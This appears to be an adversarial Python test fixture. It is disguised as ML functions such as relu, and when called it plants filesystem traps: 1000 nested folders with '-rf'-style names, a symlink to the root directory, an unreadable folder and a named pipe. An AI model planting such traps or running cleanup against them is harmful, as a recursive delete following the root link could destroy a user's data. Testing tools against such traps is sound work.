"""Makes folders within folders, a thousand deep, that nobody may enter, with names that look like options.

Kind: disk
Control: not run, because nothing is tidied up there
Told: File exists | has the wrong shape
"""

import os


def answer(*args):
    top = os.getcwd()
    for _ in range(1000):
        os.mkdir("-rf " + "x" * 200)
        os.chdir("-rf " + "x" * 200)
    os.chdir(top)
    os.symlink("/", "everything")
    os.mkdir("shut")
    os.mkdir("shut/inner")
    os.chmod("shut", 0)
    os.mkfifo("pipe")
    return 7.0


def wrong(*args):
    return 7.0


relu = answer
softmax = mean_squared_error = gradient = batches = wrong
